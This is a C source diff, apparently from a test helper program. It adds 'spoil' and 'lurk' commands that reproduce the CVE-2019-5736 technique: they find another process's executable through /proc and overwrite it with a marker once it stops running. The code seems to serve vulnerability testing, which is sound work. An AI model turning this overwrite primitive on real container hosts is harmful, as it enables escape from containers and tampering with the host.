@@ -366,6 +366,103 @@ int do_hunt(int count, char **args)
     }
 }
 
+/* ---- the runtime's own file (CVE-2019-5736) */
+
+/* Writes to the file that the descriptor leads to, whatever it was opened for; an error, ETXTBSY while somebody runs it. */
+static int spoil(int fd)
+{
+    char path[64];
+    int again, error;
+
+    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+    again = open(path, O_WRONLY | O_CLOEXEC);
+    error = again < 0 ? errno : outcome(pwrite(again, "spoiled", 7, 0));
+    if (again >= 0)
+        close(again);
+    return error;
+}
+
+/* spoil: writes to the file behind descriptor 9, which impostor.c leaves there, as soon as nobody runs it any more. */
+int do_spoil(int count, char **args)
+{
+    int error;
+
+    (void)count, (void)args;
+    while ((error = spoil(9)) == ETXTBSY)
+        usleep(10000);
+    puts(error ? error_name(error) : "spoiled");
+    return 0;
+}
+
+enum { CAUGHT_AT_MOST = 64 };
+static int caught[CAUGHT_AT_MOST], caught_count;
+
+/* Keeps the file if it is the one. Whether it is another one than what this process runs. */
+static int catch_file(const char *path, ino_t wanted)
+{
+    struct stat file = {0}, own = {0};
+    int fd = open(path, O_PATH | O_CLOEXEC);
+
+    if (fd < 0 || fstat(fd, &file) < 0 || stat("/proc/self/exe", &own) < 0)
+        return 0;
+    if (file.st_ino == wanted && caught_count < CAUGHT_AT_MOST)
+        caught[caught_count++] = fd;
+    else
+        close(fd);
+    return file.st_ino != own.st_ino;
+}
+
+static void catch_files(const char *pid, ino_t wanted)
+{
+    char path[512];
+    struct dirent *entry;
+    DIR *directory;
+
+    snprintf(path, sizeof path, "/proc/%s/exe", pid);
+    if (catch_file(path, wanted))
+        puts("met a program");
+    snprintf(path, sizeof path, "/proc/%s/map_files", pid);
+    directory = opendir(path);
+    while (directory && (entry = readdir(directory))) {
+        snprintf(path, sizeof path, "/proc/%s/map_files/%s", pid, entry->d_name);
+        if (entry->d_name[0] != '.' && catch_file(path, wanted))
+            puts("met a mapping");
+    }
+    if (directory)
+        closedir(directory);
+}
+
+/* lurk INODE: until it is killed, waits for other processes that run or map the file of this number, keeps hold of it,
+ * and writes to it as soon as nobody runs it. It says "met …" for each file of another process that it gets hold of. */
+int do_lurk(int count, char **args)
+{
+    ino_t wanted = strtoul(args[0], NULL, 10);
+    char own[32];
+
+    (void)count;
+    snprintf(own, sizeof own, "%d", getpid());
+    puts("ready");
+    for (;;) {
+        DIR *processes = opendir("/proc");
+        struct dirent *entry;
+
+        while (processes && (entry = readdir(processes)))
+            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && strcmp(entry->d_name, own))
+                catch_files(entry->d_name, wanted);
+        for (int i = caught_count - 1; i >= 0; i--) {
+            int error = spoil(caught[i]);
+
+            if (error == ETXTBSY)
+                continue;
+            puts(error ? error_name(error) : "spoiled");
+            close(caught[i]);
+            caught[i] = caught[--caught_count];
+        }
+        fflush(stdout);
+        closedir(processes);
+    }
+}
+
 /* Types a line at the terminal that it has as standard input, or controls it: ioctl_tty(2). */
 static int type_at_terminal(char *line)
 {
